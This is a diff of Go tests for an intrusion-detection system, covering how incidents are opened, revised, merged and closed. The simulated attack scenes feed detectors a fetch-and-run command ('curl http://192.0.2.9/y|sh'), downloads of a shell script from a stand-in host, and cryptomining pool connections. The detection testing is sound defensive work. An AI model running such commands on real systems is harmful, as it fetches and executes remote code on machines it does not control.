@@ -31,8 +31,9 @@ const (
 // scene is a network in which things happen, one after the other.
 type scene struct {
 	bus       *detectors.Bus
-	said      []*detectors.Finding // campaign/chain alone
-	incidents []*detectors.Incident
+	said      []*detectors.Finding  // campaign/chain alone, and what was said of it again
+	rows      []*detectors.Incident // all that was said
+	incidents []*detectors.Incident // of each the last
 	now       capture.Time
 	packet    uint64
 	flows     int
@@ -45,7 +46,27 @@ func newScene(cfg *Config) *scene {
 			s.said = append(s.said, f)
 		}
 	})
-	s.bus.Rows = func(r capture.Record) { s.incidents = append(s.incidents, r.(*detectors.Incident)) }
+	s.bus.Again = func(f *detectors.Finding, was detectors.Severity) {
+		if len(s.said) > 0 && f.Incident == s.said[0].Incident && f.ID() != s.said[0].ID() {
+			panic("another name")
+		}
+		s.said = append(s.said, f)
+	}
+	s.bus.Rows = func(r capture.Record) {
+		x := r.(*detectors.Incident)
+		s.rows = append(s.rows, x)
+		i := slices.IndexFunc(s.incidents, func(y *detectors.Incident) bool { return y.ID == x.ID })
+		switch {
+		case i < 0:
+			s.incidents = append(s.incidents, x)
+		case s.incidents[i].Revision+1 != x.Revision || s.incidents[i].State != detectors.Open:
+			panic("a revision is out of order")
+		case x.State == detectors.Merged:
+			s.incidents = slices.Delete(s.incidents, i, i+1)
+		default:
+			s.incidents[i] = x
+		}
+	}
 	home, _ := detectors.ParseNetworks(detectors.DefaultHome)
 	env := &detectors.Env{Home: home}
 	if cfg != nil {
@@ -479,15 +500,13 @@ func TestSaidAgainOnlyForMore(t *testing.T) {
 	for range 1000 {
 		s.wait(time.Minute).get(head, evil, "http://198.51.100.77/x.sh").find("mining/stratum", head, pool, detectors.High, observed)
 	}
-	if len(s.said) != 3 {
-		t.Errorf("%d said: what repeats itself is not said again", len(s.said))
+	if n := len(s.said); n < 5 || n > 3+8+1000/60 {
+		t.Errorf("%d said: what repeats itself is said at intervals", n)
 	}
-	keys := map[string]bool{}
-	for _, f := range s.said {
-		keys[f.Key] = true
-	}
-	if len(keys) != 3 {
-		t.Error("two sayings look the same to who counts repetitions")
+	for i, f := range s.said {
+		if f.ID() != s.said[0].ID() || f.Revision != i+1 || f.Incident != s.rows[0].ID {
+			t.Errorf("revision %d of %s is the %d. of %s", f.Revision, f.ID(), i+1, s.said[0].ID())
+		}
 	}
 	s.end()
 	x := s.incidents[0]
@@ -505,7 +524,7 @@ func TestSaidAgainOnlyForMore(t *testing.T) {
 func TestClosedWhenQuiet(t *testing.T) {
 	s := newScene(nil)
 	s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh").wait(7*time.Hour).conn(worker, pool, 443)
-	if len(s.incidents) != 1 {
+	if len(s.incidents) != 1 || s.incidents[0].State != detectors.Closed {
 		t.Fatalf("%d written", len(s.incidents))
 	}
 	s.find("mining/stratum", head, pool, detectors.High, observed)
@@ -518,7 +537,7 @@ func TestClosedWhenQuiet(t *testing.T) {
 func TestAnEntryWithoutConsequenceIsWrittenButNotSaid(t *testing.T) {
 	s := newScene(nil)
 	s.job(attacker, head, "id", succeeded).silent(t)
-	if len(s.incidents) != 1 || s.incidents[0].Chain || s.incidents[0].Severity != detectors.Critical {
+	if len(s.incidents) != 1 || s.incidents[0].Chain || s.incidents[0].State != detectors.Closed || s.incidents[0].Severity != detectors.Critical {
 		t.Errorf("%+v", s.incidents)
 	}
 	s = newScene(nil)
@@ -623,5 +642,82 @@ func TestKindsAreSound(t *testing.T) {
 	}
 	if k := kindOf("new/thing"); k.group != gOther || k.sure {
 		t.Error("a rule that nobody told of proves nothing")
+	}
+}
+
+// TestToldWhenItBegins: an incident has a row when it begins and when it grows, under one id, and one when it is over.
+func TestToldWhenItBegins(t *testing.T) {
+	s := newScene(nil)
+	s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh").conn(head, pool, 443)
+	if len(s.rows) != 1 || s.rows[0].State != detectors.Open || !s.rows[0].Chain || s.rows[0].Revision != 1 || len(s.said) != 1 {
+		t.Fatalf("%d rows, %d said", len(s.rows), len(s.said))
+	}
+	first := *s.rows[0]
+	steps, victims, others := len(first.Steps), slices.Clone(first.Victims), slices.Clone(first.Others)
+	s.find("mining/stratum", head, pool, detectors.High, observed)
+	s.job(attacker, worker, fetch, succeeded).wait(2*time.Minute).conn(head, pool, 443)
+	if len(s.rows) != 2 || s.rows[1].ID != first.ID || s.rows[1].Revision != 2 || len(s.rows[1].Steps) <= steps || len(s.rows[1].Victims) != 2 {
+		t.Fatalf("%d rows, the last %+v", len(s.rows), s.rows[len(s.rows)-1])
+	}
+	if len(s.rows[0].Steps) != steps || !slices.Equal(s.rows[0].Victims, victims) || !slices.Equal(s.rows[0].Others, others) {
+		t.Error("what was written has changed")
+	}
+	s.wait(7*time.Hour).conn(worker, pool, 443)
+	if n := len(s.rows); n != 3 || s.rows[2].State != detectors.Closed || s.rows[2].Revision != 3 {
+		t.Errorf("%d rows, the last %+v", n, s.rows[n-1])
+	}
+	if len(s.said) != 2 {
+		t.Errorf("%d said: that it is over is no news", len(s.said))
+	}
+	for _, x := range s.rows {
+		for _, st := range x.Steps {
+			if st.Finding != "" && !slices.Contains(x.FindingIDs, st.Finding) {
+				t.Errorf("the step %s is of %s, which is not among %v", st.What, st.Finding, x.FindingIDs)
+			}
+		}
+	}
+
+	// Nothing has come of it yet: it is told all the same, without a finding.
+	s = newScene(nil)
+	s.job(attacker, head, "id", succeeded).wait(20*time.Second).conn(worker, pool, 443)
+	if len(s.rows) != 1 || s.rows[0].State != detectors.Open || s.rows[0].Chain || len(s.said) != 0 {
+		t.Errorf("%d rows, %d said", len(s.rows), len(s.said))
+	}
+}
+
+// TestMergedIsTold: of two incidents that were told of and are one, the one has a last row that names the other.
+func TestMergedIsTold(t *testing.T) {
+	s := newScene(nil)
+	s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh")
+	s.job(other, worker, "curl http://192.0.2.9/y|sh", succeeded).get(worker, "192.0.2.9", "http://192.0.2.9/y")
+	s.job(other, head, "id", succeeded).end()
+	if len(s.incidents) != 1 || len(s.said) != 3 || s.said[0].ID() == s.said[1].ID() || s.said[2].ID() != s.said[0].ID() {
+		t.Errorf("%d incidents, %d said", len(s.incidents), len(s.said))
+	}
+	merged := 0
+	for _, x := range s.rows {
+		if x.State == detectors.Merged {
+			merged++
+			if x.Into != s.incidents[0].ID || !slices.Contains(s.incidents[0].Merged, x.ID) {
+				t.Errorf("%s is merged into %q", x.ID, x.Into)
+			}
+		}
+	}
+	if merged != 1 {
+		t.Errorf("%d were merged", merged)
+	}
+}
+
+// TestALongIncidentIsTerse: one that grows by a step a minute for two days does not have a row for each.
+func TestALongIncidentIsTerse(t *testing.T) {
+	s := newScene(nil)
+	s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh")
+	const minutes = 2 * 24 * 60
+	for i := range minutes {
+		s.wait(time.Minute).conn(head, netip.AddrFrom4([4]byte{50, 0, byte(i >> 8), byte(i)}).String(), 443).find("mining/stratum", head, pool, detectors.High, observed)
+	}
+	s.end()
+	if n := len(s.rows); n < 10 || n > minutes/60+12 || len(s.said) > n {
+		t.Errorf("%d rows, %d said in two days", n, len(s.said))
 	}
 }
